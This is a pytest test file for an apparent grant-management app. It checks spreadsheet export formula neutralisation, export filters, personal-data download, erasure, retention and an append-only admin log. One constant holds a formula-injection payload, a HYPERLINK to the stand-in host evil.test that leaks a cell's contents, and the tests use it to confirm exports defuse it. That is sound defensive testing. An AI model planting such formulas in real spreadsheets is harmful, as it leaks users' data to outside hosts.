"""Administrators' exports (built on the queue, formulas neutralised, filters, a fixed number of
queries, the sweep), a person's own data, erasure and retention, on both databases."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from grantflow.accounts import operations as accounts
from grantflow.accounts.models import User
from grantflow.adminlog import operations as adminlog
from grantflow.adminlog.models import AdminLogEntry
from grantflow.core.extensions import db
from grantflow.core.types import utcnow
from grantflow.exports import operations as ops
from grantflow.exports import personal, tables
from grantflow.exports.models import Export, ExportStatus
from grantflow.funding.models import Decision
from grantflow.ideas.models import Attachment, Idea
from grantflow.organisations.models import Invitation, Membership
from grantflow.review import conflicts
from grantflow.workflow.models import AuditEntry
from tests.conftest import login
from tests.querycount import count_queries
from tests.test_apply import PDF

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'


def _export(client, **data):
    response = client.post("/admin/exports", data={"format": "xlsx", **data})
    assert response.status_code == 303, response.get_data(as_text=True)[:300]
    export = db.session.scalars(select(Export).order_by(Export.id.desc())).first()
    db.session.refresh(export)
    assert export.status == ExportStatus.DONE, export.error
    return client.get(f"/admin/exports/{export.id}")


def test_exports_are_built_and_carry_no_formulas(client, factory):
    competition = factory.competition()
    org = factory.organisation(name=HYPERLINK)
    factory.funded(competition=competition, org=org, title="@SUM(1+1)")
    admin = factory.admin()
    db.session.commit()
    login(client, admin.email)
    assert "Eksporti" in client.get("/admin/exports").get_data(as_text=True)

    book = load_workbook(io.BytesIO(_export(client, kind="applications", format="xlsx").get_data()))
    sheet = book.active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    title, organisation = rows[0][2], rows[0][4]
    assert organisation.data_type == "s" and organisation.value == "'" + HYPERLINK
    assert title.data_type == "s" and title.value == "'@SUM(1+1)"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    requested = rows[0][header.index("Pieprasīts (EUR)")]
    assert requested.data_type == "n"  # money stays a number

    for kind in ("reviews", "decisions", "documents", "reports"):
        response = _export(client, kind=kind, format="csv")
        body = response.get_data().decode("utf-8-sig")
        parsed = list(csv.reader(io.StringIO(body)))
        assert all(not cell.startswith(("=", "+", "@")) for row in parsed for cell in row), kind
        if kind in ("reviews", "decisions"):
            assert parsed[1][4] == "'" + HYPERLINK, kind
    # the page lists them, with a link to each
    page = client.get("/admin/exports").get_data(as_text=True)
    assert page.count("/admin/exports/") >= 5


def test_filters_select_by_competition_state_tag_and_municipality(app, factory):
    home, elsewhere = factory.municipality("Rēzeknes novads"), factory.municipality("Ludzas novads")
    competition, other = factory.competition(), factory.competition()
    draft = factory.idea(competition=competition, org=factory.organisation(municipality=home), title="Melnraksts")
    factory.submitted(competition=competition, org=factory.organisation(municipality=elsewhere), title="Iesniegta")
    factory.submitted(competition=other, org=factory.organisation(municipality=home), title="Citā konkursā")
    db.session.commit()

    def titles(**filters):
        _header, rows = tables.applications(tables.Filters.of(filters))
        return sorted(row[2] for row in rows)

    assert titles() == ["Citā konkursā", "Iesniegta", "Melnraksts"]
    assert titles(competition=competition.id) == ["Iesniegta", "Melnraksts"]
    assert titles(tag="editable") == [draft.title]
    assert titles(tag="filed", municipality=home.id) == ["Citā konkursā"]
    assert titles(tag="not-a-tag") == titles()  # an unknown tag filters nothing rather than failing


def test_each_export_takes_the_same_number_of_queries_however_many_rows(app, factory):
    competition = factory.competition()
    factory.funded(competition=competition)
    db.session.commit()
    competition_id = competition.id

    def queries():
        counts = {}
        for kind, (_label, build) in tables.KINDS.items():
            db.session.expunge_all()
            with count_queries(db.engine) as statements:
                _header, rows = build(tables.Filters(competition=competition_id))
                list(rows)
            counts[kind] = len([s for s in statements if not s.startswith("BEGIN")])
        return counts

    few = queries()
    competition = db.session.get(type(competition), competition_id)
    for _ in range(3):
        factory.funded(competition=competition)
    db.session.commit()
    assert queries() == few and max(few.values()) <= 5  # rows, plus one per collection loaded with them


def test_the_sweep_takes_up_lost_exports_and_a_claim_is_won_once(app, factory):
    admin = factory.admin()
    db.session.commit()
    left = Export(kind="applications", format="csv", filters={}, requested_by_id=admin.id,
                  status=ExportStatus.RUNNING, started_at=utcnow() - timedelta(hours=1))
    lost = Export(kind="decisions", format="xlsx", filters={}, requested_by_id=admin.id,
                  created_at=utcnow() - timedelta(minutes=5))
    fresh = Export(kind="reports", format="csv", filters={}, requested_by_id=admin.id)
    busy = Export(kind="reviews", format="csv", filters={}, requested_by_id=admin.id,
                  status=ExportStatus.RUNNING, started_at=utcnow())
    db.session.add_all([left, lost, fresh, busy])
    db.session.commit()
    assert ops.lost() == [left.id, lost.id]
    ops.sweep()
    db.session.expire_all()
    assert (left.status, lost.status, fresh.status, busy.status) == ("done", "done", "queued", "running")
    assert left.content.startswith("\ufeff".encode()) and lost.content[:2] == b"PK"
    assert ops.claim(fresh.id) is True and ops.claim(fresh.id) is False  # a second worker loses
    assert ops.claim(busy.id) is False


def test_a_person_downloads_their_data(client, factory):
    org = factory.organisation()
    applicant = factory.applicant(org)
    idea = factory.idea(org=org, title="Mana ideja", created_by_id=applicant.id)
    db.session.add(Attachment(idea_id=idea.id, filename="tāme.pdf", content_type="application/pdf", size=len(PDF),
                              sha256=hashlib.sha256(PDF).hexdigest(), data=PDF, uploaded_by_id=applicant.id))
    db.session.commit()
    login(client, applicant.email)
    assert "/profile/data" in client.get("/profile").get_data(as_text=True)
    response = client.get("/profile/data")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.get_data()))
    assert json.loads(archive.read("account.json"))["email"] == applicant.email
    assert [m["organisation"] for m in json.loads(archive.read("memberships.json"))] == [org.name]
    assert [i["title"] for i in json.loads(archive.read("ideas.json"))] == ["Mana ideja"]
    assert [n for n in archive.namelist() if n.startswith("files/")] == [f"files/{idea.attachments[0].id}-tāme.pdf"]
    assert archive.read(f"files/{idea.attachments[0].id}-tāme.pdf") == PDF


def test_erasure_keeps_the_grant_records_and_removes_the_person(client, factory, app):
    org = factory.organisation()
    applicant = factory.applicant(org)
    applicant_id, email = applicant.id, applicant.email
    funded = factory.funded(org=org, created_by_id=applicant.id, title="Atbalstīta")
    draft = factory.idea(org=org, created_by_id=applicant.id, title="Melnraksts", contact_phone="+371 20000000")
    admin = factory.admin()
    db.session.add(Invitation(organisation_id=org.id, email=email, token_hash="a" * 64, expires_at=utcnow(),
                              accepted_at=utcnow(), accepted_by_id=applicant_id))  # how they joined  # fmt: skip
    db.session.commit()
    audit_before = db.session.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.actor_id == applicant_id))
    assert audit_before >= 1
    victim = app.test_client()
    login(victim, email)
    login(client, admin.email)

    page = client.get(f"/admin/people/{applicant_id}/erase").get_data(as_text=True)
    assert f"P-{applicant_id:06d}" in page
    assert 'name="csrf_token"' in page
    response = client.post(f"/admin/people/{applicant_id}/erase", data={})
    assert response.status_code == 303

    db.session.expire_all()
    person = db.session.get(User, applicant_id)
    # what goes
    assert person.name == f"P-{applicant_id:06d}" and email not in person.email and person.erased_at
    assert not person.active and not person.roles and not person.check_password("parole-123456")
    assert db.session.scalar(select(func.count()).select_from(Membership).where(Membership.user_id == applicant_id)) == 0
    assert victim.get("/profile").status_code in (302, 401)  # their session ended
    draft_row = db.session.get(Idea, draft.id)
    assert (draft_row.contact_name, draft_row.contact_email, draft_row.contact_phone) == ("", "", "")
    # what stays
    kept = db.session.get(Idea, funded.id)
    assert kept.organisation_id == org.id and kept.contact_email == "anna@example.lv" and kept.reference
    assert db.session.scalar(select(func.count()).select_from(Decision).where(Decision.idea_id == funded.id)) == 1
    assert db.session.scalar(
        select(func.count()).select_from(AuditEntry).where(AuditEntry.actor_id == applicant_id)) == audit_before
    entry = db.session.scalars(select(AdminLogEntry).where(AdminLogEntry.kind == "person_erased")).one()
    assert entry.actor_id == admin.id and entry.object_id == applicant_id
    assert email not in json.dumps([entry.object_label, entry.before, entry.after])
    assert email not in _every_text_in_the_database()  # nowhere, the outbox and the log included
    # the idea's history shows the pseudonym
    history = client.get(f"/ideas/{funded.id}").get_data(as_text=True)
    assert f"P-{applicant_id:06d}" in history
    # once is enough
    page = client.get(f"/admin/people/{applicant_id}/erase").get_data(as_text=True)
    assert "govuk-button--warning" not in page and "dzēsti" in page


def test_erasure_refuses_oneself_and_the_last_administrator(app, factory):
    admin = factory.admin()
    db.session.commit()
    for actor in (admin, None):
        try:
            personal.erase(admin, actor)
        except personal.Refused:
            db.session.rollback()
        else:
            raise AssertionError("erased")
    assert db.session.get(User, admin.id).erased_at is None


def test_retention_pseudonymises_old_drafts_and_inactive_accounts(app, factory):
    old = utcnow() - timedelta(days=2000)
    stale = factory.applicant()
    stale.created_at = old
    recent_user = factory.applicant()
    admin = factory.admin()
    admin.created_at = old
    draft = factory.idea(title="Pamests")
    fresh_draft = factory.idea(title="Svaigs")
    submitted = factory.submitted(title="Iesniegts")
    db.session.flush()
    db.session.execute(Idea.__table__.update().where(Idea.id.in_([draft.id, submitted.id])).values(updated_at=old))
    db.session.commit()

    done = personal.retention()
    assert done == {"drafts": [draft.id], "accounts": [stale.id]}
    db.session.expire_all()
    assert db.session.get(Idea, draft.id).contact_email == "" and db.session.get(Idea, fresh_draft.id).contact_email
    assert db.session.get(Idea, submitted.id).contact_email  # filed ideas are grant records: kept
    assert db.session.get(User, stale.id).erased_at and db.session.get(User, recent_user.id).erased_at is None
    assert db.session.get(User, admin.id).erased_at is None
    entry = db.session.scalars(select(AdminLogEntry).where(AdminLogEntry.kind == "retention_applied")).one()
    assert entry.after == {"drafts_emptied": [draft.id], "accounts_pseudonymised": [stale.id], "log_rows_pseudonymised": []}
    assert personal.retention() == {"drafts": [], "accounts": []}  # a second run finds nothing more


def test_only_administrators_export_or_erase(client, factory):
    applicant = factory.applicant()
    other = factory.applicant()
    db.session.commit()
    login(client, applicant.email)
    assert client.get("/admin/exports").status_code == 403
    assert client.get(f"/admin/people/{other.id}/erase").status_code == 403


def _every_text_in_the_database() -> str:
    """Every row of every table, as text (files and exports' bytes decoded where they are text)."""
    out = []
    for table in db.metadata.sorted_tables:
        for row in db.session.execute(table.select()):
            for value in row:
                if isinstance(value, bytes):
                    value = value.decode("utf-8", "ignore")
                out.append(json.dumps(value, ensure_ascii=False, default=str))
    return "\n".join(out)


def test_erasure_leaves_no_identifier_in_the_administration_log(client, factory):
    """The log's rows held the person's address and names (invited as one name, renamed on
    their profile, named in another evaluator's standing conflict); after erasure none is
    readable anywhere in the database, and the trail (who, when, what kind, which record) stays."""
    admin, colleague = factory.admin(), factory.evaluator(email="kolega@example.lv")
    db.session.commit()
    person = accounts.invite("Ilze.Ozola@Example.lv", "Ilze Ozola", ["evaluator"], [], "lv", admin)
    accounts.accept_invitation(person, "parole-123456")
    accounts.update_profile(person, "Ilze Kalniņa-Ozola", "lv")
    accounts.change_roles(person, ["evaluator", "applicant"], [], admin)
    conflicts.declare(colleague, "person", None, None, "ilze.ozola@example.lv", "Māsa", recorded_by=admin)
    db.session.commit()
    other = factory.organisation(name="Ilze Ozola un partneri")  # a name inside another name: not hers to erase
    accounts.update_profile(admin, "Ilze", "lv")  # someone else called just "Ilze": left alone
    db.session.commit()
    trail = {e.id: (e.kind, e.object_kind, e.object_id, e.actor_id, e.source, e.created_at)
             for e in db.session.scalars(select(AdminLogEntry))}  # fmt: skip
    everything = _every_text_in_the_database()
    assert "ilze.ozola@example.lv" in everything and "Kalniņa-Ozola" in everything

    personal.erase(person, admin)
    db.session.expire_all()
    everything = _every_text_in_the_database()
    for identifier in ("ilze.ozola@example.lv", "Ilze.Ozola@Example.lv", "Ilze Ozola <", "Ilze Kalniņa-Ozola",
                       '"Ilze Ozola"'):  # fmt: skip
        assert identifier not in everything, identifier
    assert "Ilze Ozola un partneri" == db.session.get(type(other), other.id).name  # another record untouched
    entries = {e.id: e for e in db.session.scalars(select(AdminLogEntry))}
    for entry_id, kept in trail.items():  # the trail as it was
        e = entries[entry_id]
        assert (e.kind, e.object_kind, e.object_id, e.actor_id, e.source, e.created_at) == kept
    erased = next(e for e in entries.values() if e.kind == "person_erased")
    rewritten = erased.after["log_rows_pseudonymised"]
    assert len(rewritten) >= 4 and all(entries[i].redactions == 1 for i in rewritten)
    named = next(e for e in entries.values() if e.kind == "conflict_recorded")
    assert named.after["with"] == f"{person.name} <{person.name}>" and named.object_label == "kolega@example.lv"
    renamed = next(e for e in entries.values() if e.kind == "profile_changed" and e.object_id == person.id)
    assert renamed.before["name"] == renamed.after["name"] == person.name == f"P-{person.id:06d}"
    admins_rename = next(e for e in entries.values() if e.kind == "profile_changed" and e.object_id == admin.id)
    assert admins_rename.after["name"] == "Ilze" and admins_rename.redactions == 0
    login(client, admin.email)
    page = client.get("/admin/log").get_data(as_text=True)
    assert f"P-{person.id:06d}" in page and "ilze.ozola" not in page.lower()


def test_the_log_lets_through_only_a_pseudonymisation(factory):
    """The triggers' one exception: `redactions` up by one with the trail unchanged. Anything
    else, and every DELETE, is refused on both databases."""
    admin = factory.admin()
    adminlog.record("account_deactivated", "account", admin.id, "a@example.lv", before={"active": True},
                    after={"active": False}, actor=admin)  # fmt: skip
    db.session.commit()
    for statement in (
        "UPDATE admin_log SET object_label = 'x'",  # no count raised
        "UPDATE admin_log SET object_label = 'x', redactions = redactions + 2",
        "UPDATE admin_log SET kind = 'x', redactions = redactions + 1",  # the trail changed
        "UPDATE admin_log SET actor_id = NULL, redactions = redactions + 1",
        "UPDATE admin_log SET created_at = '2000-01-01 00:00:00+00:00', redactions = redactions + 1",
        "DELETE FROM admin_log",
    ):  # fmt: skip
        with pytest.raises(Exception, match="append-only"):
            db.session.execute(text(statement))
        db.session.rollback()
    db.session.execute(text("UPDATE admin_log SET object_label = 'P-000001', redactions = redactions + 1"))
    db.session.commit()
    entry = db.session.scalars(select(AdminLogEntry)).one()
    assert entry.object_label == "P-000001" and entry.redactions == 1 and entry.kind == "account_deactivated"
